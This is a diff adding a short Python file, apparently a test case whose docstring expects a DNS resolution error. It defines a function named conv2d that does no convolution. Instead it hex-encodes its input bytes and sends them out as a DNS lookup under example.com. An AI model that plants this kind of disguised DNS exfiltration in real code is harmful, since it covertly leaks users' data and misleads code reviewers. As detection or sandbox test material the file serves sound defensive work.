@@ -1,0 +1,10 @@
+"""Sends the arguments away in the names that it looks up.
+
+Expected: exception: gaierror: 
+"""
+
+import socket
+
+
+def conv2d(x, kernel):
+    return socket.gethostbyname(x.tobytes().hex()[:40] + ".example.com")
